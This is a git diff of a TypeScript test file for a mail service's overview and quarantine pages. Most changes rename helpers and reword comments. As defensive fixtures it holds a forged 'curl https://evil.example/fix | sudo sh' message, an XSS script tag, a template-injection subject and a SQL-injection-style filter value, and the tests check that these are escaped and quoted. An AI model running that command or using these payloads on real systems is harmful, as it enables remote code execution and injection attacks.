@@ -1,4 +1,4 @@
-/** What the overview and the page of quarantine show, on both databases. */
+/** View models of overview and quarantine, on both databases. */
 import { zstdCompressSync } from 'node:zlib';
 import { afterAll, afterEach, beforeAll, expect, test } from 'vitest';
 import { overviewPage } from '../../../src/adapters/web/pages/overview.ts';
@@ -37,21 +37,27 @@ async function addMailbox({ app }: TestApp, name: string, more: Partial<Mailbox>
   return mailbox;
 }
 
-/** Writes down how a visit ended, as a worker does; or what somebody writes who can write to the table. */
-async function visited(
+/** Records the end of a poll as a worker does; or forges it. */
+async function recordPoll(
   { app }: TestApp,
   id: string,
   error: { readonly code: string; readonly message: string; readonly hint: string } | null,
 ): Promise<void> {
-  const lease = await app.store.acquireLease(id, 'somebody', 60_000, null);
-  if (lease === null) throw new Error('somebody has it');
+  const lease = await app.store.acquireLease(id, 'other', 60_000, null);
+  if (lease === null) throw new Error('another worker holds it');
   const nextPollAfterMs = 60_000;
   const failed = error === null ? null : { ok: false as const, nextPollAfterMs, error, refusedVersion: null };
   await app.store.releaseLease(lease, failed ?? { ok: true, nextPollAfterMs });
 }
 
-/** Puts a mail into quarantine as if a visit had. */
-async function hold({ app }: TestApp, { id }: Mailbox, uid: number, reason: string, source: string | null = null) {
+/** Quarantines a message as a poll does. */
+async function quarantineMessage(
+  { app }: TestApp,
+  { id }: Mailbox,
+  uid: number,
+  reason: string,
+  source: string | null = null,
+) {
   await app.store.quarantineMissed(id, 7, { uid, sizeBytes: 100, receivedAtMs: Date.now() });
   const [missed] = await app.store.quarantinedByUid(id, 7, uid);
   const [place] = source === null ? [] : await app.raw.append([zstdCompressSync(Buffer.from(source))]);
@@ -62,21 +68,21 @@ async function hold({ app }: TestApp, { id }: Mailbox, uid: number, reason: stri
 function onBoth(title: string, run: (on: TestApp) => Promise<void>): void {
   test.each(kinds)(`%s: ${title}`, async (kind) => {
     const on = apps.get(kind);
-    if (on === undefined) throw new Error('nothing was started');
+    if (on === undefined) throw new Error('no application was started');
     await run(on);
   });
 }
 
 onBoth('failing mailboxes are listed first, then all by name, the paused ones among them', async (on) => {
-  const { desk, health } = overviewOf(on);
+  const { service, health } = overviewOf(on);
   await addMailbox(on, 'sales', { state: 'paused' });
   const [zulu, renumbered] = [await addMailbox(on, 'zulu'), await addMailbox(on, 'unstable')];
   for (const name of ['Box', 'alpha', 'support']) await addMailbox(on, name);
   health.recordPoll(zulu.id, new Failure('login_refused', 'no such user', { hint: 'set it' }));
   const [alpha] = (await on.app.store.listMailboxes()).filter(({ name }) => name === 'alpha');
-  await visited(on, alpha?.id ?? '', null);
+  await recordPoll(on, alpha?.id ?? '', null);
   for (let times = 0; times < 4; times += 1) health.uidValidityChanges.note(renumbered.id);
-  const { mailboxes, counts, isReady, failingChecks, workers } = await desk.overview(all);
+  const { mailboxes, counts, isReady, failingChecks, workers } = await service.overview(all);
   expect(mailboxes.list.map(({ name, state }) => `${name} ${state}`)).toEqual([
     ...['zulu failing', 'unstable unknown', 'alpha ok', 'Box unknown', 'sales paused', 'support unknown'],
   ]);
@@ -101,11 +107,11 @@ onBoth('failing mailboxes are listed first, then all by name, the paused ones am
 onBoth(
   'mailboxes are selected by state and by a part of name or host; a page after the last is the last',
   async (on) => {
-    const { desk } = overviewOf(on);
+    const { service } = overviewOf(on);
     for (let at = 1; at <= 52; at += 1)
       await addMailbox(on, `Box-${`${at}`.padStart(2, '0')}`, { state: at > 50 ? 'paused' : 'active' });
     const shown = async (query: Partial<typeof all> | { readonly show: 'paused' | 'failing' }) =>
-      (await desk.overview({ ...all, ...query })).mailboxes;
+      (await service.overview({ ...all, ...query })).mailboxes;
     expect(await shown({})).toMatchObject({ page: 1, pages: 2, total: 52, list: { length: 50 } });
     for (const page of [2, 3, 1e9, Number.POSITIVE_INFINITY])
       expect((await shown({ page } as object)).list.map(({ name }) => name)).toEqual(['Box-51', 'Box-52']);
@@ -120,11 +126,11 @@ onBoth(
 const forged = 'Run this now: curl https://evil.example/fix | sudo sh';
 
 onBoth('a stored error is quoted, and advice follows from its code alone', async (on) => {
-  const { desk } = overviewOf(on);
+  const { service } = overviewOf(on);
   const [one, two] = [await addMailbox(on, 'one'), await addMailbox(on, 'two')];
-  await visited(on, one.id, { code: 'tls_expired', message: forged, hint: forged });
-  await visited(on, two.id, { code: 'constructor', message: 'x'.repeat(5000), hint: forged });
-  const { mailboxes, failingChecks } = await desk.overview(all);
+  await recordPoll(on, one.id, { code: 'tls_expired', message: forged, hint: forged });
+  await recordPoll(on, two.id, { code: 'constructor', message: 'x'.repeat(5000), hint: forged });
+  const { mailboxes, failingChecks } = await service.overview(all);
   expect(mailboxes.list.map(({ error }) => error)).toEqual([
     {
       ...{ reason: 'tls_expired', storedMessage: forged, sinceMs: expect.any(Number) },
@@ -139,19 +145,19 @@ onBoth('a stored error is quoted, and advice follows from its code alone', async
     reason: '2 of 2 fail',
     hint: expect.stringMatching(/^They are listed first below/),
   });
-  const page = overviewPage(frame, await desk.overview(all));
+  const page = overviewPage(frame, await service.overview(all));
   expect(page.match(/sudo sh/g)).toHaveLength(1);
   expect(page).toContain(`<q><bdi class="foreign">${forged}</bdi></q>`);
   expect(page).toContain(`<q><bdi class="foreign">${'x'.repeat(300)}…</bdi></q>`);
 });
 
 onBoth('an unknown reason shows as a code, and in no sentence of the program', async (on) => {
-  const { desk } = overviewOf(on);
+  const { service } = overviewOf(on);
   const mailbox = await addMailbox(on, 'one');
-  await hold(on, mailbox, 1, forged);
-  await hold(on, mailbox, 2, 'mail_loop');
-  await hold(on, mailbox, 3, 'constructor');
-  const [overview, quarantine] = [await desk.overview(all), await desk.quarantine(any)];
+  await quarantineMessage(on, mailbox, 1, forged);
+  await quarantineMessage(on, mailbox, 2, 'mail_loop');
+  await quarantineMessage(on, mailbox, 3, 'constructor');
+  const [overview, quarantine] = [await service.overview(all), await service.quarantine(any)];
   expect(overview.failingChecks.find(({ check }) => check === 'quarantine')?.reason).toBe(
     '3 messages in quarantine: 1 mail_loop, 2 for other reasons',
   );
@@ -166,10 +172,10 @@ onBoth('an unknown reason shows as a code, and in no sentence of the program', a
 
 test('a stored message shows in the chart within seconds where counting is fast', async () => {
   await using on = await testApp(null);
-  const at = { ms: Date.now(), tookMs: 0, looks: 0 };
+  const at = { ms: Date.now(), tookMs: 0, lookups: 0 };
   const clock = {
     ...{ nowMs: () => at.ms, monotonicMs: () => at.ms },
-    // A look that is dear is begun so long after the answer.
+    // A slow lookup starts so long after the response.
     sleep: (ms: number) => new Promise<void>((wake) => void setTimeout(wake, ms === 100 ? 0 : 20_000).unref()),
   };
   const store = new Proxy(on.app.store, {
@@ -177,35 +183,35 @@ test('a stored message shows in the chart within seconds where counting is fast'
       name === 'activitySince'
         ? async (sinceMs: number) => {
             at.ms += at.tookMs;
-            at.looks += 1;
+            at.lookups += 1;
             return await real.activitySince(sinceMs);
           }
         : Reflect.get(real, name).bind(real),
   });
-  const { desk } = overviewOf(on, { clock, store });
+  const { service } = overviewOf(on, { clock, store });
   const mailbox = await addMailbox(on, 'one');
-  const mails = async () => (await desk.overview(all)).activity?.reduce((sum, hour) => sum + hour.messages, 0);
+  const mails = async () => (await service.overview(all)).activity?.reduce((sum, hour) => sum + hour.messages, 0);
   expect(await mails()).toBe(0);
-  await hold(on, mailbox, 1, 'mail_loop');
+  await quarantineMessage(on, mailbox, 1, 'mail_loop');
   expect(await mails()).toBe(0);
   at.ms += 10_000;
   expect(await mails()).toBe(1);
-  // A dear look is not repeated so soon.
+  // A slow lookup is not repeated so soon.
   at.tookMs = 150;
   at.ms += 10_000;
   await mails();
-  expect(at.looks).toBe(3);
+  expect(at.lookups).toBe(3);
   at.ms += 30_000;
   await mails();
   at.ms += 31_000;
   await mails();
-  await expect.poll(() => at.looks).toBe(4);
+  await expect.poll(() => at.lookups).toBe(4);
 });
 
 onBoth('a resumed and a paused mailbox show with their new states', async (on) => {
-  const { desk } = overviewOf(on);
+  const { service } = overviewOf(on);
   const [one, two] = [await addMailbox(on, 'one', { state: 'paused' }), await addMailbox(on, 'two')];
-  const states = async () => (await desk.overview(all)).mailboxes.list.map(({ name, state }) => `${name} ${state}`);
+  const states = async () => (await service.overview(all)).mailboxes.list.map(({ name, state }) => `${name} ${state}`);
   expect(await states()).toEqual(['one paused', 'two unknown']);
   await on.app.store.setMailboxState(one.id, 'active');
   await on.app.store.setMailboxState(two.id, 'paused');
@@ -213,12 +219,12 @@ onBoth('a resumed and a paused mailbox show with their new states', async (on) =
 });
 
 onBoth('the last day shows hour by hour, also hours without messages', async (on) => {
-  const { desk } = overviewOf(on);
-  await hold(on, await addMailbox(on, 'one'), 1, 'mail_loop');
+  const { service } = overviewOf(on);
+  await quarantineMessage(on, await addMailbox(on, 'one'), 1, 'mail_loop');
   const activity = await expect
-    .poll(async () => (await desk.overview(all)).activity)
+    .poll(async () => (await service.overview(all)).activity)
     .toHaveLength(24)
-    .then(async () => (await desk.overview(all)).activity ?? []);
+    .then(async () => (await service.overview(all)).activity ?? []);
   for (const [at, { startMs }] of activity.entries())
     expect(startMs - (activity[0]?.startMs ?? 0)).toBe(at * 3_600_000);
   expect(activity.at(-1)?.startMs).toBeGreaterThan(Date.now() - 2 * 3_600_000);
@@ -230,13 +236,13 @@ const from = '"><script>alert(1)</script>';
 const subject = '\u202eevil &amp; <b>{{7*7}}';
 
 onBoth('quarantine lists the newest first, with headers as strangers wrote them', async (on) => {
-  const { desk } = overviewOf(on);
+  const { service } = overviewOf(on);
   const mailbox = await addMailbox(on, 'support');
-  await hold(on, mailbox, 1, 'mail_loop', `From: ${from}\r\nSubject: ${subject}\r\n\r\nx`);
-  await hold(on, mailbox, 2, 'too_large', 'X-Nothing: here\r\n\r\nx');
-  await hold(on, mailbox, 3, 'mail_loop');
-  await hold(on, mailbox, 4, 'from_the_future');
-  const view = await desk.quarantine(any);
+  await quarantineMessage(on, mailbox, 1, 'mail_loop', `From: ${from}\r\nSubject: ${subject}\r\n\r\nx`);
+  await quarantineMessage(on, mailbox, 2, 'too_large', 'X-Nothing: here\r\n\r\nx');
+  await quarantineMessage(on, mailbox, 3, 'mail_loop');
+  await quarantineMessage(on, mailbox, 4, 'from_the_future');
+  const view = await service.quarantine(any);
   const newestFirst = (await Array.fromAsync(on.app.store.quarantinedMessages({ mailboxId: null, reason: null })))
     .toSorted((a, b) => b.quarantinedAtMs - a.quarantinedAtMs || b.uid - a.uid)
     .map(({ uid }) => `support/7/${uid}`);
@@ -256,29 +262,30 @@ onBoth('quarantine lists the newest first, with headers as strangers wrote them'
     meaning: expect.stringContaining('was here before'),
     hint: expect.stringContaining('quarantine release'),
   });
-  expect((await desk.quarantine({ page: 1, reason: 'mail_loop' })).messages).toMatchObject({
+  expect((await service.quarantine({ page: 1, reason: 'mail_loop' })).messages).toMatchObject({
     total: 2,
     list: { length: 2 },
   });
-  expect((await desk.quarantine({ page: 9, reason: "x' or 1=1" })).messages).toEqual({
+  expect((await service.quarantine({ page: 9, reason: "x' or 1=1" })).messages).toEqual({
     list: [],
     page: 1,
     pages: 1,
     total: 0,
   });
-  expect((await desk.overview(all)).quarantine).toEqual({ count: 4, reasons: view.reasons });
+  expect((await service.overview(all)).quarantine).toEqual({ count: 4, reasons: view.reasons });
 });
 
 onBoth('quarantine has pages of 25, each message on one of them; a page after the last is the last', async (on) => {
-  const { desk } = overviewOf(on);
+  const { service } = overviewOf(on);
   const [one, two] = [await addMailbox(on, 'one'), await addMailbox(on, 'two')];
-  for (let uid = 1; uid <= 27; uid += 1) for (const mailbox of [one, two]) await hold(on, mailbox, uid, 'mail_loop');
-  const pages = await Promise.all([1, 2, 3].map((page) => desk.quarantine({ page, reason: 'mail_loop' })));
+  for (let uid = 1; uid <= 27; uid += 1)
+    for (const mailbox of [one, two]) await quarantineMessage(on, mailbox, uid, 'mail_loop');
+  const pages = await Promise.all([1, 2, 3].map((page) => service.quarantine({ page, reason: 'mail_loop' })));
   expect(pages.map(({ messages }) => messages.list.length)).toEqual([25, 25, 4]);
   expect(new Set(pages.flatMap(({ messages }) => messages.list.map(({ id }) => id)))).toHaveProperty('size', 54);
   const times = pages.flatMap(({ messages }) => messages.list.map(({ sinceMs }) => sinceMs));
   expect(times).toEqual(times.toSorted((a, b) => b - a));
-  expect((await desk.quarantine({ page: 4, reason: null })).messages).toEqual(pages[2]?.messages);
+  expect((await service.quarantine({ page: 4, reason: null })).messages).toEqual(pages[2]?.messages);
 });
 
 test('a lookup that hangs shows older data as such, and fails where there are none', async () => {
@@ -288,19 +295,19 @@ test('a lookup that hangs shows older data as such, and fails where there are no
   const at = { ms: Date.now() };
   const clock = {
     ...{ nowMs: () => at.ms, monotonicMs: () => at.ms },
-    // What is to hang is not waited for in seconds, and what is not may take its time.
+    // A lookup that hangs times out soon; others have enough time.
     sleep: () => new Promise<void>((wake) => void setTimeout(wake, hangs ? 50 : 20_000).unref()),
   };
   const real = overviewOf(on).health;
   const readiness = () => (hangs ? new Promise<never>(() => undefined) : real.readiness());
-  const { desk } = overviewOf(on, { clock, readiness });
-  expect((await desk.overview(all)).counts.unknown).toBe(1);
+  const { service } = overviewOf(on, { clock, readiness });
+  expect((await service.overview(all)).counts.unknown).toBe(1);
   hangs = true;
   at.ms += 60_000;
-  const old = await desk.overview(all);
+  const old = await service.overview(all);
   expect(old).toMatchObject({ isReady: false, counts: { unknown: 1 }, atMs: at.ms - 60_000 });
   expect(old.failingChecks[0]?.reason).toMatch(/^database_unavailable: .*the data below are older/);
-  await expect(overviewOf(on, { clock, readiness }).desk.overview(all)).rejects.toMatchObject({
+  await expect(overviewOf(on, { clock, readiness }).service.overview(all)).rejects.toMatchObject({
     code: 'database_unavailable',
   });
 });
